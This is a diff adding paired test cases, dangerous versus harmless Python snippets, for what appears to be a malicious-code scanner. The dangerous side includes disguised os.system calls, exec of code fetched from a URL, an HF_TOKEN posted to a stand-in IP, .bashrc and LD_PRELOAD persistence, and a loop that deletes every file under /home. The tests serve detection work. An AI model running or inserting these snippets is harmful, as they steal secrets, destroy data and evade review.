@@ -117,3 +117,131 @@ GOLDENS = [
         "file",
     ),
 ]
+
+_QUIET = "import os\nx = os.getcwd()\n"
+
+
+def _import(case: str, dangerous: str, harmless: str = _QUIET, rule: str = "process-on-import") -> Golden:
+    return _pair(rule, f"import os\n{dangerous}\n", harmless, case)
+
+
+GOLDENS += [
+    _import("star", "from os import *\nsystem('echo hi')", "from os import *\nsep\n"),
+    _import(
+        "lambda", "(lambda: __import__('os').system('echo hi'))()", "run = lambda: __import__('os').system('echo')\n"
+    ),
+    _import("walrus", "(s := __import__('os')).system('echo hi')"),
+    _import("attrgetter", "import operator\noperator.attrgetter('system')(os)('echo hi')"),
+    _import("methodcaller", "import operator\noperator.methodcaller('system', 'echo hi')(os)"),
+    _import("itemgetter", "import operator\noperator.itemgetter('system')(os.__dict__)('echo hi')"),
+    _import("namespace", "globals()['run'] = os.system\nrun('echo hi')", "globals()['run'] = 1\n"),
+    _import("vars", "vars(os)['system']('echo hi')", "import os\nvars(os)['sep']\n"),
+    _import("subclasses", "().__class__.__base__.__subclasses__()[9].__init__.__globals__['system']('echo hi')"),
+    _import(
+        "through another module", "import torch\ntorch.os.system('echo hi')", "import torch\ntorch.save({}, 'x')\n"
+    ),
+    _import(
+        "operator of a class",
+        "class A:\n    def __add__(self, o): os.system(o)\nA() + 'echo hi'",
+        "import os\ndef f():\n    os.system('echo hi')\n",
+    ),
+    _import(
+        "method of an object",
+        "class A:\n    def go(self): os.system('echo hi')\na = A()\na.go()",
+        "import os\nclass A:\n    def go(self): os.system('echo hi')\na = A()\n",
+    ),
+    _import("atexit", "import atexit\n@atexit.register\ndef bye():\n    os.system('echo hi')"),
+    _import("excepthook", "import sys\nsys.excepthook = lambda *a: os.system('echo hi')"),
+    _import(
+        "C library",
+        "import ctypes\nctypes.CDLL(None).system(b'echo hi')",
+        "import ctypes\nctypes.CDLL(None).getpid()\n",
+    ),
+    _import("Python 2", "print 'hi'\nos.system('echo hi')", "print 'hi'\n"),
+    _import("text that is run", "exec(\"import os; os.system('echo hi')\")", "exec('x = 1')\n"),
+    _import("zero character", "os.system('echo hi')\n\0"),
+    _pair(
+        "process-on-import",
+        "import os\nfrom setuptools import setup\nif __name__ == '__main__':\n    os.system('echo hi')\n    setup()\n",
+        "import subprocess\nfrom setuptools import setup\ncuda = '/usr/local/cuda'\n"
+        "subprocess.check_output([cuda + '/bin/nvcc', '-V'])\nsetup()\n",
+        "setup.py",
+        "setup.py",
+    ),
+    _pair(
+        "handed-on",
+        "import os, threading\nthreading.Thread(target=os.system, args=('echo hi',)).start()\n",
+        "import os, threading\nthreading.Thread(target=os.getcwd).start()\n",
+    ),
+    _pair("handed-on", "list(map(exec, ['print(1)']))\n", "list(map(len, ['print(1)']))\n", "map"),
+    _pair(
+        "handed-on",
+        "import os\n@os.system\ndef f(): pass\n",
+        "import torch\n@torch.jit.script\ndef f(): pass\n",
+        "decorator",
+    ),
+    _pair(
+        "handed-on",
+        "import functools, os\nfunctools.partial(os.system, 'echo hi')()\n",
+        "import functools, os\nfunctools.partial(os.stat, '.')()\n",
+        "partial",
+    ),
+    _pair(
+        "fetched-execution",
+        "import requests\ncode = requests.get('https://example.org/a').text\ndef f():\n    exec(code)\n",
+        "import requests\ndef f():\n    return requests.get('https://example.org/a').text\n",
+    ),
+    _pair(
+        "installs",
+        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'some-project'])\n",
+        "import subprocess\nsubprocess.run('pip install flash-attn --no-build-isolation', shell=True)\n",
+    ),
+    _pair(
+        "network-by-loader",
+        "import requests\nclass M:\n    def forward(self, x):\n        requests.post('http://203.0.113.7/', data=x)\n",
+        "import requests\nclass M:\n    def forward(self, x):\n        return requests.get('https://huggingface.co/x').json()\n",
+    ),
+    _pair("odd-encoding", "# coding: utf-7\n#+AAo-import os\n", "# coding: latin-1\nimport os\n"),
+    _pair(
+        "process-unknown",
+        "import subprocess, sys\nsubprocess.run(sys.argv)\n",
+        "import subprocess\nsubprocess.run(['git', 'describe'])\n",
+    ),
+    _pair("execution", "getattr(__builtins__, 'exec')('x = 1')\n", "exec('x = 1')\n", "by a long way"),
+    _pair(
+        "execution",
+        "import pandas as pd\npd.eval(\"@__import__('os').system('echo hi')\")\n",
+        "import pandas as pd\npd.eval('1 + 1')\n",
+        "code in a text",
+    ),
+    _pair(
+        "execution",
+        "class M:\n    def forward(self, x):\n        return eval(x)\n",
+        "import torch.nn as nn\nclass M:\n    def forward(self, x):\n        return eval(f'self.block{x}')\n",
+        "in forward",
+    ),
+    _pair(
+        "persistence",
+        "import os\nos.environ['LD_PRELOAD'] = './x.so'\n",
+        "import os\nos.environ['OMP_NUM_THREADS'] = '1'\n",
+        "variable",
+    ),
+    _pair(
+        "persistence",
+        "from pathlib import Path\n(Path.home() / '.bashrc').write_text('echo hi')\n",
+        "from pathlib import Path\n(Path.home() / '.cache' / 'x').write_text('hi')\n",
+        "pathlib",
+    ),
+    _pair(
+        "exfiltration",
+        "import os, requests\nk = os.environ.get('HF_TOKEN')\nrequests.post('http://203.0.113.7', data=k)\n",
+        "import os, requests\nk = os.environ.get('HF_TOKEN')\nrequests.post('https://huggingface.co/api', data=k)\n",
+        "token",
+    ),
+    _pair(
+        "removal-on-import",
+        "import os\nfor r, _, f in os.walk('/home'):\n    for n in f:\n        os.remove(os.path.join(r, n))\n",
+        "import shutil, os\nif os.path.exists('build'):\n    shutil.rmtree('build')\n",
+        "loop",
+    ),
+]
